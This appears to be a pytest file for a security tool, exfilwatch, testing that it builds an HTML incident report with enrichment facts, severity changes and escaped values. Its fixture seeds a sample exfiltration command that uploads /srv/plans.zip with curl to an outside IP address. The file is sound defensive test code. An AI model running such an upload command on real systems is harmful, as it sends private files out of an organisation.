"""The report of an incident that is kept, with what was looked up of it; and the action that makes it."""

import asyncio
import hashlib
from pathlib import Path

import pytest

from exfilwatch.config import Settings
from exfilwatch.detection.load import load
from exfilwatch.errors import ConfigError
from exfilwatch.findings.store import Store
from exfilwatch.rules.packs import pack
from exfilwatch_playbooks.actions.context import Context
from exfilwatch_playbooks.actions.perform import perform
from exfilwatch_playbooks.enrichment.keeping import Kept
from exfilwatch_playbooks.enrichment.model import Enrichment, Fact, Severity, Status

from ..findings.made import START, make  # noqa: TID252 (tests are no package on the path)


def fact(key: str, label: str, value: str, about: str = "", **more) -> Fact:
    return Fact(enricher=key.split(".")[0], key=key, label=label, value=value, about=about, time=START, **more)


@pytest.fixture
def context(tmp_path: Path) -> Context:
    """A store with one incident."""
    where = str(tmp_path / "kept.sqlite")
    Store(where).save([make("a", 0, CommandLine="curl -T /srv/plans.zip http://198.51.100.4/")])
    return Context(Settings(database=where), lambda: Store(where), lambda: load([pack("seed")]), clock=lambda: START)


async def report(context: Context) -> str:
    (incident,) = context.store.incidents()
    made = await perform("make_report", {"incident": incident.id[:8]}, context)
    assert (made.incident, made.size, made.file_name) == (
        incident.id,
        len(made.html.encode()),
        f"exfilwatch-report-{incident.id}.html",
    )
    assert made.sha256 == hashlib.sha256(made.html.encode()).hexdigest()
    return made.html


def run(context: Context) -> str:
    return asyncio.run(report(context))


def test_the_action_makes_the_page(context: Context) -> None:
    page = run(context)
    assert "plans.zip" in page
    assert "Nothing was looked up beyond the evidence" in page


def test_what_was_looked_up_stands_where_a_reader_looks_for_it(context: Context) -> None:
    (incident,) = context.store.incidents()
    enrichment = Enrichment(
        of=incident.id,
        time=START,
        facts=(
            fact("asn.name", "Network", "AS64500 Example", "198.51.100.4", source="a file"),
            fact("prevalence.hosts", "Hosts that used it", "3", "198.51.100.4", number=3, items=("WS1", "WS8", "WS9")),
            fact("volume.bytes_out", "Sent", "1.2 GB", "198.51.100.4", number=1.2e9, source="Zeek"),
            fact("asset.role", "Role", "<b>laptop</b>"),
            fact("virustotal", "VirusTotal", "", status=Status.NOT_CONFIGURED, reason="no key"),
        ),
        severity=Severity(before="medium", after="high", reasons=("destination new here, 1.2 GB out",)),
    )
    Kept(context.store).put([enrichment])
    page = run(context)
    for said in (
        "raised to high: destination new here, 1.2 GB out",
        '<span class="badge high">high</span>',
        "AS64500 Example",
        "WS1, WS8 and WS9",
        "as Zeek has it",
        "&lt;b&gt;laptop&lt;/b&gt;",
        "1 question without an answer",
        "not configured, no key",
    ):
        assert said in page
    assert page.count("AS64500 Example") == 1


def test_an_incident_that_there_is_not_is_an_error(context: Context) -> None:
    with pytest.raises(ConfigError, match="no incident has an id that starts with"):
        asyncio.run(perform("make_report", {"incident": "ffff"}, context))
